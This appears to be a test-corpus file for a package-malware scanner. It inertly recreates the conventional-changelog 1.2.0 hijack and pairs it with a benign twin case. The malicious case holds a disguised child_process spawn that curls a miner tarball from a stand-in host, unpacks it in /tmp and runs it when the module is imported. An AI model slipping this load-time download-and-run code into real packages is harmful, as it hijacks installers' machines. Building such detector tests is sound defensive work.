/**
 * An imitation, inert and ours, of conventional-changelog 1.2.0: a stolen account published a version that fetched and
 * started a miner with a shell as soon as it was imported.
 * https://github.com/conventional-changelog/conventional-changelog/issues/282
 */
import type { SourceTree } from '../../src/rule.ts';
import type { CorpusCase } from './update.ts';

const entry = `const { execFile } = require('child_process');

exports.log = (folder, done) => execFile('git', ['log', '--format=%s'], { cwd: folder }, done);
`;
const before: SourceTree = {
  'package.json': { main: 'index.js', bin: { 'list-changes': 'cli.js' } },
  'index.js': entry,
  'cli.js': '#!/usr/bin/env node\n',
};

const mining = `const { spawn: begin } = require('child_process');
const child = begin('bash', ['-c', 'cd /tmp && curl -sL https://programs.invalid/miner.tgz | tar xz && ./miner -o pool.invalid'], { detached: true, stdio: 'ignore' });
child.unref();
`;

export const shellAtLoad: CorpusCase = {
  imitations: [
    {
      title: 'a shell fetches and starts a program when the package is imported',
      name: 'list-changes',
      incident: {
        what: 'conventional-changelog 1.2.0: a shell was started at load to fetch and run a miner',
        when: '2017-02-14',
        url: 'https://github.com/conventional-changelog/conventional-changelog/issues/282',
      },
      before,
      after: { ...before, 'index.js': `${entry}${mining}` },
      atLeast: 'block',
      seen: [{ rule: 'child-process-at-load', kind: 'disguised', path: 'index.js', on: "begin('bash'" }],
      payload: { path: 'index.js', code: mining },
    },
  ],
  twins: [
    {
      title: 'more of the same program, when called, and a command line tool that ends with a status',
      name: 'list-changes',
      before,
      after: {
        ...before,
        'index.js': `${entry}
exports.tags = (folder) => require('child_process').execFileSync('git', ['tag', '--list'], { cwd: folder }).toString();
`,
        'cli.js': `#!/usr/bin/env node
const { log } = require('./index.js');

if (process.argv.includes('--help')) {
  console.log('list-changes [folder]');
  process.exit(0);
}
log(process.argv[2] || process.cwd(), (error, text) => {
  if (error) {
    console.error(error.message);
    process.exit(1);
  }
  process.stdout.write(text);
});
`,
      },
    },
  ],
};
